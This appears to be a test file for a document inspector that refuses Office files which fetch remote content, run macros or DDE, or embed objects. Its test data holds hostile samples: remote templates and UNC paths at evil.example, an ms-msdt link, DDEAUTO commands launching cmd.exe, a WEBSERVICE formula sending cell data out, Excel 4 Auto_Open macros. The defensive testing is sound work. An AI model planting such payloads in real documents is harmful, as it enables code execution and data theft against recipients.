import { inspect } from '../../server/files/domain/inspect.js';
import { book, field, relationship, withRels, words } from './office.js';
import { refusal } from './refusal.js';
import { docx, zip } from './samples.js';

describe('a document that fetches something when opened', () => {
  it.each([
    ['a template', withRels('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a template of a share', withRels('attachedTemplate', '\\\\evil.example\\s\\t.dotx')],
    [
      'a template of a share as a file address',
      withRels('attachedTemplate', 'file://evil.example/t.dotx'),
    ],
    ['a template beside the document', withRels('attachedTemplate', 'evil.dotm')],
    [
      'a template in other letters',
      withRels('attachedTemplate', 'HTTP:\\\\evil.example', ' EXTERNAL '),
    ],
    [
      'a template written with references',
      withRels('attachedTemplate', '&#104;ttp://evil.example/', '&#69;xternal'),
    ],
    [
      'a template of the strict kind',
      withRels(
        'attachedTemplate',
        'http://evil.example/',
        'External',
        'http://purl.oclc.org/ooxml/officeDocument/relationships',
      ),
    ],
    ['a frame', withRels('frame', 'https://evil.example/')],
    ['a linked object', withRels('oleObject', 'https://evil.example/a.rtf')],
    ['a linked object of a drive', withRels('oleObject', 'file:///C:\\a.xlsx')],
    ['a picture', withRels('image', 'https://evil.example/pixel.png')],
    ['a picture of a share', withRels('image', 'file:////evil.example/pixel.png')],
    ['a part nobody knows', withRels('somethingNew', 'https://evil.example/')],
    ['a link that starts a program', withRels('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
    ['a link with a script', withRels('hyperlink', ' java\nscript:alert(1)')],
    ['a link to a program', withRels('hyperlink', 'setup.exe')],
    ['a workbook elsewhere', withRels('externalLinkPath', 'https://evil.example/a.xlsx')],
    [
      'wide letters',
      docx({
        name: 'word/_rels/a.xml.rels',
        data: Buffer.from(`\ufeff${relationship('image', 'http://evil.example/')}`, 'utf16le'),
      }),
    ],
    ['a field', field(' INCLUDEPICTURE "https://evil.example/a.png" \\d ')],
    ['a field over several runs', field(' INCLUDE', 'TEXT ', '"\\\\\\\\evil\\\\a.docx"')],
    ['DDE', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')],
    ['DDE over several runs', field('D', 'D', 'E', 'AUTO excel "a"')],
    [
      'DDE by a field in a field',
      field(
        '<w:fldChar w:fldCharType="begin"/>',
        ' QUOTE 68 68 69',
        '<w:fldChar w:fldCharType="end"/>',
        ' excel "a"',
      ),
    ],
    ['DDE in a simple field', words('<w:fldSimple w:instr=" dde excel &quot;a&quot; "/>')],
    [
      'DDE that never ends',
      words('<w:fldChar w:fldCharType="begin"/><w:instrText>DDE excel</w:instrText>'),
    ],
    ['a linked object in a drawing', words('<o:OLEObject Type="Link" ProgID="htmlfile"/>')],
    ['a picture in a drawing', words('<v:imagedata src="https://evil.example/a.png"/>')],
    ['text from another place', withRels('subDocument', 'https://evil.example/')],
  ])('refuses %s', async (_what, bytes) => {
    expect(await refusal('a.docx', bytes)).toBe('external');
    expect(await refusal('a.zip', zip([{ name: '企画/a.docx', data: bytes }]))).toBe('external');
  });

  it.each([
    [
      'DDE',
      'xl/externalLinks/externalLink1.xml',
      '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    ],
    [
      'OLE',
      'xl/externalLinks/externalLink1.xml',
      '<externalLink><oleLink progId="a"/></externalLink>',
    ],
    ['DDE in a cell', 'xl/worksheets/sheet1.xml', "<c><f>cmd|'/c calc'!A0</f></c>"],
    [
      'a call',
      'xl/worksheets/sheet1.xml',
      '<c><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></c>',
    ],
    [
      'a picture in a cell',
      'xl/worksheets/sheet1.xml',
      '<c><f>_xlfn.IMAGE("http://evil.example/a.png")</f></c>',
    ],
    [
      'a query',
      'xl/connections.xml',
      '<connections><connection><webPr url="http://evil.example/"/></connection></connections>',
    ],
    [
      'a database',
      'xl/connections.xml',
      '<connections><connection><dbPr connection="Provider=SQLOLEDB;Server=evil"/></connection></connections>',
    ],
  ])('refuses a workbook with %s', async (_what, name, data) => {
    expect(await refusal('a.xlsx', book(name, data))).toBe('external');
  });
});

describe('a document that runs something', () => {
  it.each([
    ['macros', docx({ name: 'word/vbaProject.bin', data: 'a' })],
    [
      'macros under another name',
      withRels(
        'vbaProject',
        'data.bin',
        'Internal',
        'http://schemas.microsoft.com/office/2006/relationships',
      ),
    ],
    [
      'macros by their type',
      zip([
        {
          name: '[Content_Types].xml',
          data: '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
        { name: 'word/document.xml', data: '<w:document/>' },
      ]),
    ],
    ['controls', docx({ name: 'word/activeX/activeX1.xml', data: '<ax:ocx/>' })],
    ['controls by their relationship', withRels('control', 'a.xml', 'Internal')],
    ['a ribbon', docx({ name: 'customUI/customUI14.xml', data: '<customUI onLoad="a"/>' })],
    ['a ribbon by its relationship', withRels('extensibility', 'ui.xml', 'Internal')],
    ['a panel of an add-in', docx({ name: 'word/webextensions/taskpanes.xml', data: '<a/>' })],
    [
      'a drawing with a script',
      docx({ name: 'word/media/a.svg', data: '<svg><script>1</script></svg>' }),
    ],
    ['a drawing that listens', docx({ name: 'word/media/a.svg', data: '<svg onload="a()"/>' })],
    [
      'a button',
      docx({ name: 'ppt/slides/slide1.xml', data: '<a:hlinkClick action="ppaction://program"/>' }),
    ],
  ])('refuses %s', async (_what, bytes) => {
    expect(await refusal('a.docx', bytes)).toBe('macro');
  });

  it.each([
    ['xl/macrosheets/sheet1.xml', '<xm:macrosheet/>'],
    [
      'xl/workbook2.xml',
      '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>',
    ],
    [
      'xl/_rels/workbook.xml.rels',
      relationship(
        'xlMacrosheet',
        'a.xml',
        'Internal',
        'http://schemas.microsoft.com/office/2006/relationships',
      ),
    ],
  ])('refuses macros of Excel 4 in %s', async (name, data) => {
    expect(await refusal('a.xlsx', book(name, data))).toBe('macro');
  });
});

describe('a document that carries something', () => {
  it.each([
    ['an object', docx({ name: 'word/embeddings/oleObject1.bin', data: 'a' })],
    ['an object by its relationship', withRels('oleObject', 'data.bin', 'Internal')],
    ['a page that is taken in', withRels('aFChunk', 'a.html', 'Internal')],
    ['another kind of file', withRels('package', 'embeddings/a.bin', 'Internal')],
    ['a program', docx({ name: 'word/embeddings/a.exe', data: 'a' })],
  ])('refuses %s', async (_what, bytes) => {
    expect(await refusal('a.docx', bytes)).toBe('embedded');
  });

  it('refuses what would be read differently elsewhere', async () => {
    const entity = '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>';
    expect(await refusal('a.docx', docx({ name: 'word/_rels/a.xml.rels', data: entity }))).toBe(
      'content',
    );
    const packed = '<?xml version="1.0" encoding="utf-7"?><Relationships/>';
    expect(await refusal('a.docx', docx({ name: 'word/_rels/a.xml.rels', data: packed }))).toBe(
      'content',
    );
  });

  it('refuses a document with a password, and says what to do', async () => {
    const encrypted = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2_000)]);
    await expect(inspect('a.docx', encrypted)).rejects.toMatchObject({
      reason: 'old-office',
      detail: expect.stringContaining('パスワードを外し') as string,
    });
  });
});
